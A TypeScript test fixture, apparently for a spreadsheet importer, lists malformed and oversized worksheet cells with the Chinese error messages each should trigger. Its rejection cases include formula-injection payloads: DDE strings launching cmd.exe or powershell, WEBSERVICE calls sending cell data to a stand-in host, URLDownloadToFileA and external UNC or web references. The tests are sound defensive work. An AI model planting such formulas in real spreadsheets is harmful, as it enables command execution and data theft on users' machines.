/** Cells that do not hold what they say, lie where no cell lies, or are too many; the refusal names the sheet and the cell. */
import { randomBytes } from "node:crypto";
import type { Hostile } from "./hostile.ts";
import { dataXml, paths, sheetXml, withCell, withRows, workbook } from "./hostile-workbook.ts";

/** What must be said of B2 of 成绩. */
const atB2 = (what: string) => new RegExp(`工作表“成绩”的 B2：.*${what}`);
const v = (text: string) => `<v>${text}</v>`;
const f = (text: string, attributes = "") => `<f${attributes}>${text}</f><v>1</v>`;
const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");

/** At B2: attributes, content, what is said. */
const inB2: readonly (readonly [string, string, string, string])[] = [
  ["a text that is not there", 't="s"', v("3"), "引用的文本不存在"],
  ["text number -1", 't="s"', v("-1"), "引用的文本不存在"],
  ["text number 1e2", 't="s"', v("1e0"), "引用的文本不存在"],
  ["text number 4294967296", 't="s"', v("4294967296"), "引用的文本不存在"],
  ["the text __proto__", 't="s"', v("__proto__"), "引用的文本不存在"],
  ["the text length", 't="s"', v("length"), "引用的文本不存在"],
  ["a number in two pieces", "", "<v>8</v><v>0</v>", "写了两个值"],
  ["a blank and a number", "", "<v/><v>0</v>", "写了两个值"],
  ["two inline texts", 't="inlineStr"', "<is><t>8</t></is><is><t>0</t></is>", "写了两段文本"],
  ["two formulas", "", "<f>1</f><f>2</f><v>1</v>", "写了两个公式"],
  ["a number beside an inline text", "", "<v>80</v><is><t>20</t></is>", "数和文本混在一起"],
  ["a text beside an inline text", 't="str"', "<v>80</v><is><t>20</t></is>", "数和文本混在一起"],
  ["an inline text beside its value", 't="inlineStr"', "<is><t>20</t></is><v>80</v>", "数和文本混在一起"],
  ["an inline text in a cell of numbers", "", "<is><t>20</t></is>", "数和文本混在一起"],
  ["an element inside a number", "", "<v>8<b>9</b>0</v>", "值里夹着别的东西"],
  ["an element of another namespace inside a number", "", '<v>8<x:b xmlns:x="urn:x"/>0</v>', "值里夹着别的东西"],
  ["an element inside an inline text", 't="inlineStr"', "<is><t>8<b>9</b>0</t></is>", "值里夹着别的东西"],
  ["an element inside a formula", "", "<f>1<b/>+1</f><v>2</v>", "值里夹着别的东西"],
  ["a number that is NaN", "", v("NaN"), "数值写法不对"],
  ["a number that is INF", "", v("INF"), "数值写法不对"],
  ["a number that is Infinity", 't="n"', v("Infinity"), "数值写法不对"],
  ["a number beyond all", "", v("1e999"), "数值写法不对"],
  ["a hexadecimal number", "", v("0x5F"), "数值写法不对"],
  ["a number with a comma", "", v("95,5"), "数值写法不对"],
  ["a number with a unit", "", v("95分"), "数值写法不对"],
  ["a number with full-width digits", "", v("９５"), "数值写法不对"],
  ["a number of two", "", v("9 5"), "数值写法不对"],
  ["a number with two points", "", v("9.5.0"), "数值写法不对"],
  ["a number that is an e", "", v("e5"), "数值写法不对"],
  ["a truth that is 2", 't="b"', v("2"), "逻辑值不对"],
  ["a truth that is yes", 't="b"', v("是"), "逻辑值不对"],
  ["an error that is nothing", 't="e"', v(""), "错误值不对"],
  ["an error of a hundred letters", 't="e"', v("#".repeat(100)), "错误值不对"],
  ["the 30th of February", 't="d"', v("2026-02-30"), "日期不对"],
  ["a date in Chinese", 't="d"', v("2026年9月1日"), "日期不对"],
  ["25 o'clock", 't="d"', v("25:00"), "日期不对"],
  ["a type nobody knows", 't="x"', v("1"), "单元格类型不明"],
  ["the type __proto__", 't="__proto__"', v("1"), "单元格类型不明"],
  ["a text of 32,768 characters", 't="str"', v("长".repeat(32_768)), "文本超过 32,767"],
  ["an inline text of 32,768 characters", 't="inlineStr"', `<is><t>${"长".repeat(32_768)}</t></is>`, "文本超过 32,767"],
  ["an inline text in too many runs", 't="inlineStr"', `<is>${"<r><t>ab</t></r>".repeat(16_384)}</is>`, "文本超过 32,767"],
  ["a number of 40,000 digits", "", v("9".repeat(40_000)), "文本超过 32,767"],
  ["a formula of 8,193 characters", "", f("1".repeat(8_193)), "公式超过 8,192"],
  ["a shared formula that nobody has", "", f("", ' t="shared" si="9"'), "公式不完整"],
  ["a shared formula called __proto__", "", f("", ' t="shared" si="__proto__"'), "公式不完整"],
  ...["cmd|'/c calc'!A0", "=cmd|'/c powershell'!A1", "1+cmd|'/c calc'!A0", "MSEXCEL|'\\..\\cmd.exe /c calc'!''", 'DDE("soffice","a","b")']
    .concat([
      '_xlfn.WEBSERVICE("http://192.0.2.1/?"&A1)',
      'RTD("x",,"y")',
      'CALL("urlmon","URLDownloadToFileA")',
      'REGISTER.ID("kernel32","x")',
      'EXEC("calc")',
    ])
    .concat(["rundll32|'x'!A", 'SUM(1,webservice ("http://192.0.2.1"))'])
    .map((formula) => [`the formula ${formula}`, "", f(escaped(formula)), "启动或连接其他程序"] as const),
  ...[
    "[1]Sheet1!A1",
    "'[1]成 绩'!A1",
    "SUM([2]成绩!A1:B2)",
    "'C:\\[成绩.xlsx]一班'!A1",
    "'\\\\192.0.2.1\\c\\[a.xlsx]S'!A1",
    "'http://192.0.2.1/[a.xlsx]S'!A1",
  ]
    .concat(["[成绩.xlsx]一班!A1", "A1+[1]!总分", "IF(1,[3]Sheet1!$A$1,0)", "'file:///c:/a.xls'!A1"])
    .map((formula) => [`the formula ${formula}`, "", f(escaped(formula)), "公式引用了其他文件"] as const),
];

const row = (attributes: string, inside = "") => `<row ${attributes}>${inside}</row>`;
const cell = (attributes: string) => `<c ${attributes}><v>1</v></c>`;
const numbered = (count: number, one: (n: number) => string) => Array.from({ length: count }, (_, n) => one(n)).join("");

/** 31,000 letters that do not deflate to nearly nothing. */
const noise = () => randomBytes(500).toString("hex").repeat(31);

const elsewhere: readonly (readonly [string, () => Uint8Array, RegExp])[] = [
  ...["0", "-1", "1.5", "abc", "", "1048577", "99999999999", "1e3", "__proto__"].map(
    (r) => [`row ${JSON.stringify(r)}`, () => withRows(row(`r="${r}"`, "<c><v>1</v></c>")), /工作表“成绩”：行号不对/] as const,
  ),
  ...["B3", "A0", "2", "B", "ZZZZ2", "XFE2", "B2:C3", "$B$2", "B-2", "B02", "", "constructor", "Б2", "B２"].map(
    (r) =>
      [
        `the address ${JSON.stringify(r)} in row 2`,
        () => withRows(row('r="2"', cell(`r="${r}"`))),
        /工作表“成绩”：第 2 行有单元格地址不对/,
      ] as const,
  ),
  ["a cell twice", () => withRows(row('r="2"', cell('r="B2"') + cell('r="B2"'))), atB2("出现了两次")],
  ["a cell twice, in two rows", () => withRows(row('r="2"', cell('r="B2"')) + row('r="2"', cell('r="B2"'))), atB2("出现了两次")],
  ["a formula twice", () => withRows(row('r="2"', '<c r="B2"><f>1</f></c><c r="B2"><f>2</f></c>')), atB2("出现了两次")],
  [
    "cells in two pieces",
    () => workbook({ [paths.sheet]: sheetXml('<sheetData/><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>') }),
    /已损坏.*工作表“成绩”：有两段单元格数据/,
  ],
  [
    "texts that are all missing",
    () => workbook({ "xl/sharedStrings.xml": null }),
    /已损坏.*工作表“.+”的 [A-Z]+\d+：单元格引用的文本都不在文件里.*重新拷贝/,
  ],
  ["a mark in row 20,001", () => withRows(row('r="20001"', cell('r="A20001"'))), /的 A20001：第 20,000 行以下还有内容/],
  ["a mark in the last row of all", () => withRows(row('r="1048576"', cell('r="XFD1048576"'))), /的 XFD1048576：第 20,000 行以下/],
  ["20,001 rows without numbers", () => withRows("<row><c><v>1</v></c></row>".repeat(20_001)), /的 A20001：第 20,000 行以下/],
  ["a mark in column 501", () => withRows(row('r="2"', cell('r="SG2"'))), /的 SG2：第 500 列以右还有内容/],
  ["501 cells without addresses", () => withRows(row('r="2"', "<c><v>1</v></c>".repeat(501))), /的 SG2：第 500 列以右/],
  ["16,385 cells without addresses", () => withRows(row('r="2"', "<c/>".repeat(16_385))), /第 2 行的单元格过多/],
  [
    "2,000,500 cells by their last column",
    () => withRows(numbered(4_001, (n) => row(`r="${n + 1}"`, `<c r="SF${n + 1}"><v>${n}</v></c>`))),
    /单元格超过 2,000,000 个/,
  ],
  ["200,001 formulas", () => withRows(numbered(2_001, () => `<row>${"<c><f>1</f></c>".repeat(100)}</row>`)), /公式超过 200,000 个/],
  ["100,001 dates", () => withRows(numbered(1_001, (n) => `<row>${`<c s="1"><v>${n}</v></c>`.repeat(100)}</row>`)), /日期超过 100,000 个/],
  [
    "300,001 texts",
    () => withRows(numbered(3_001, (n) => `<row>${numbered(100, (m) => `<c t="str"><v>${n * m}</v></c>`)}</row>`)),
    /文本超过 300,000 个/,
  ],
  [
    "a merge of nothing",
    () => workbook({ [paths.sheet]: sheetXml('<sheetData/><mergeCells><mergeCell ref="x"/></mergeCells>') }),
    /合并单元格的地址不对/,
  ],
  [
    "a merge beyond the sheet",
    () => workbook({ [paths.sheet]: sheetXml('<mergeCells><mergeCell ref="A1:XFE1"/></mergeCells>') }),
    /合并单元格的地址不对/,
  ],
  [
    "20,001 merges",
    () =>
      workbook({
        [paths.sheet]: sheetXml(`<mergeCells>${numbered(20_001, (n) => `<mergeCell ref="A${n + 1}:B${n + 1}"/>`)}</mergeCells>`),
      }),
    /合并单元格超过 20,000 处/,
  ],
  ["columns from 0", () => workbook({ [paths.sheet]: sheetXml('<cols><col min="0" max="5" hidden="1"/></cols>') }), /列号不对/],
  ["columns to a million", () => workbook({ [paths.sheet]: sheetXml('<cols><col min="1" max="1000000" hidden="1"/></cols>') }), /列号不对/],
  ["columns without numbers", () => workbook({ [paths.sheet]: sheetXml('<cols><col hidden="1"/></cols>') }), /列号不对/],
  [
    "texts of 20 million characters, each in its cell",
    () => workbook({ [paths.sheet]: dataXml(numbered(650, (n) => `<row><c t="str"><v>${n}${noise()}</v></c></row>`)) }),
    /文本合计超过 16,777,216 个字符/,
  ],
];

export const cells: readonly Hostile[] = [
  ...inB2.map(([name, attributes, inside, what]) => ({
    name: `${name}, in B2`,
    bytes: () => withCell(attributes, inside),
    says: atB2(what),
  })),
  ...elsewhere.map(([name, bytes, says]) => ({ name, bytes, says })),
];
